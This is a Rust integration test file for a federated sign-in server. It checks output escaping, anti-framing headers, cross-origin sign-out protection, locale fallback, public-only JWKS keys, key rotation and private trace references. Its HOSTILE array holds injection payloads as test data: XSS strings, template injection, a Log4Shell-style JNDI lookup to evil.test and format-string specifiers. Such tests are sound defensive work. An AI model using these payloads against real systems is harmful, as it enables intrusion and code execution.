//! What pages, keys and references show.

use std::collections::BTreeSet;

use vestibule::base::Span;

use crate::support::client::{Client, verify};
use crate::support::http::Request;
use crate::support::server::{block_on, wait_until};
use crate::world::{World, is_guarded, reference};

const HOSTILE: [&str; 6] = [
    "<script>alert(1)</script>@contoso.com",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}@contoso.com",
    "${jndi:ldap://evil.test/a}",
    "%s%n%x@contoso.com",
    "{% raw %}",
];

#[test]
fn a145_hostile_texts_are_shown_as_text_or_not_at_all() {
    let world = World::two_idps();
    for text in HOSTILE {
        let mut pages = Vec::new();
        let mut browser = world.server.browser();
        // What is typed is shown again; a hint, a client's id, a provider's words never are.
        let choose = browser.open(&Client::access().ask(&world.server).url());
        let typed = browser.submit(&choose, &choose.form_with("email").fill("email", text));
        if typed.answer.is_some() {
            let shown = typed.forms().into_iter().flat_map(|form| form.fields).find(|(name, _)| name == "email");
            assert!(shown.is_none_or(|(_, value)| value == text), "as it was typed");
            pages.push(typed);
        }
        let encoded = form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
        pages.push(world.server.browser().open(&Client::access().ask(&world.server).with("client_id", text).url()));
        for path in [
            format!("/federation/auth/initiate?iss={encoded}&login_hint={encoded}"),
            format!(
                "/federation/auth/response/oauth2/contoso?state={encoded}&error={encoded}&error_description={encoded}"
            ),
            format!("/acs/openid/logout?state={encoded}&post_logout_redirect_uri={encoded}&id_token_hint={encoded}"),
            format!("/{encoded}"),
        ] {
            pages.push(world.server.browser().open(&world.server.url(&path)));
        }
        for page in pages {
            is_guarded(page.response());
            let html = page.text();
            for live in ["<script>alert", "<img src=x", "49@contoso.com"] {
                assert!(!html.contains(live), "{live} at {}", page.url);
            }
        }
    }
}

#[test]
fn a187_no_page_of_ours_can_be_framed() {
    let world = World::two_idps();
    let mut browser = world.server.browser();
    is_guarded(browser.open(&Client::access().ask(&world.server).url()).response());
    let hinted = Client::access().ask(&world.server).hint("alice@contoso.com");
    hinted.run(&mut browser).code();
    for path in ["/", "/acs/openid/logout", "/nowhere", "/federation/auth/initiate", "/acs/authorize"] {
        is_guarded(browser.tab().open(&world.server.url(path)).response());
    }
    let post = Request::form::<&str, &str>(&world.server.url("/acs/continue"), &[]);
    is_guarded(&world.server.send(&post));
}

#[test]
fn a188_a_sign_out_that_the_person_did_not_ask_for_changes_nothing() {
    let world = World::new();
    let mut browser = world.server.browser();
    world.sign_in(&mut browser);
    let asked = browser.open(&world.server.url("/acs/openid/logout"));
    let confirm = world.server.url("/acs/openid/logout/confirm");
    let form = asked.form_with("handle");
    let made_up = [("handle".to_owned(), "A".repeat(43))];
    for (from, fields) in [
        ("https://evil.test/", form.fields.as_slice()),
        (world.server.base.as_str(), made_up.as_slice()),
        (world.server.base.as_str(), &[]),
    ] {
        world.is_page(&browser.tab().post_from(from, &confirm, fields), 403);
        assert!(world.is_signed_in(&browser), "still signed in after a POST from {from}");
    }
    browser.submit(&asked, &form);
    assert!(!world.is_signed_in(&browser));
}

#[test]
fn a191_strange_languages_get_a_page_in_one_that_exists() {
    let world = World::two_idps();
    let lang = |html: &str| html.split("lang=\"").nth(1).and_then(|rest| rest.split('"').next()).map(str::to_owned);
    let url = |ask: crate::support::client::Ask| ask.url();
    let usual = lang(&world.server.browser().open(&url(Client::access().ask(&world.server))).text());
    for n in 0..50 {
        for strange in
            [format!("x-{n}"), format!("zz-{n:04}"), format!("../{n}"), "q".repeat(n * 10 + 1), format!("*;q={n}")]
        {
            let ask = Client::access().ask(&world.server).with("ui_locales", &strange);
            let answer = world.server.send(&Request::get(&ask.url()).header("Accept-Language", &strange));
            assert_eq!(answer.status, 200, "{strange}");
            assert_eq!(lang(&answer.text()), usual, "{strange}");
        }
    }
}

#[test]
fn a258_the_published_keys_are_public_only_and_check_what_is_signed() {
    let world = World::new();
    let tokens = world.sign_in(&mut world.server.browser());
    for path in ["/acs/jwks", "/federation/jwks"] {
        for key in world.server.get(path).json()["keys"].as_array().expect("keys") {
            for member in ["d", "p", "q", "dp", "dq", "qi", "oth", "k"] {
                assert!(key.get(member).is_none(), "{member} at {path}");
            }
        }
    }
    let verified = verify(&world.server, &tokens.id_token);
    assert_eq!(verified["sub"], tokens.sub());
}

#[test]
fn a258_the_next_key_is_published_a_day_ahead_and_the_old_one_stays_until_all_caches_are_old() {
    let world = World::new();
    let kids = || -> BTreeSet<String> {
        let keys = world.server.get("/acs/jwks").json()["keys"].as_array().cloned().unwrap_or_default();
        keys.iter().filter_map(|key| key["kid"].as_str().map(str::to_owned)).collect()
    };
    let kid_of = |token: &str| jsonwebtoken::decode_header(token).expect("a JWT").kid.expect("a kid");
    let tokens = world.sign_in(&mut world.server.browser());
    let (old, first) = (kid_of(&tokens.id_token), kids());
    world.advance(Span::hours(89 * 24 + 1));
    wait_until("the next keys are published", || kids().len() > first.len());
    let both = kids();
    assert!(both.is_superset(&first));
    assert_eq!(kid_of(&world.sign_in(&mut world.server.browser()).id_token), old, "they don't sign yet");
    world.advance(Span::days(1));
    let signs = || kid_of(&world.sign_in(&mut world.server.browser()).id_token);
    wait_until("a new key signs", || signs() != old);
    assert!(both.contains(&signs()), "one that was published before");
    assert!(kids().contains(&old), "what the old one signed can still be checked");
    assert_eq!(verify(&world.server, &tokens.id_token)["sub"], tokens.sub());
    world.advance(Span::days(2));
    wait_until("the old key is gone", || !kids().contains(&old));
}

#[test]
fn a264_a_reference_is_drawn_at_random_and_opens_nothing_over_http() {
    let world = World::with(|setup, _| {
        setup.provisioned();
    });
    let hint = "alice@contoso.com";
    let mut drawn = Vec::new();
    for _ in 0..3 {
        let page = world.server.browser().open(&Client::access().ask(&world.server).hint(hint).url());
        drawn.push(reference(&world.is_page(&page, 403)).expect("a reference"));
    }
    let last = drawn[2].clone();
    let traces = &world.server.running().ports().directory.traces;
    let trace = || block_on(traces.trace(&last)).expect("the database works");
    wait_until("the trace is written", || trace().is_some_and(|trace| trace.steps.len() > 2));
    let text = serde_json::to_string(&trace()).expect("JSON");
    for secret in [hint, "alice-at-idp", "access-secret", "idp-secret", "code-1"] {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
    for path in
        ["/traces/REF", "/acs/broker/traces/REF", "/federation/broker/logins/REF", "/console/traces/REF", "/?ref=REF"]
    {
        let answer = world.server.get(&path.replace("REF", &last));
        assert!(!answer.text().contains("not_provisioned") && !answer.text().contains("steps"), "{path}");
    }
    drawn.sort();
    drawn.dedup();
    assert_eq!(drawn.len(), 3);
    assert!(drawn.iter().all(|reference| reference.len() == 22), "128 bits in base64url");
    let (later, kept) = (world.now().plus(Span::days(31)), Span::days(30));
    wait_until("the trace is written, and then forgotten", || {
        block_on(traces.purge(later, kept)).expect("the database works");
        trace().is_none()
    });
}
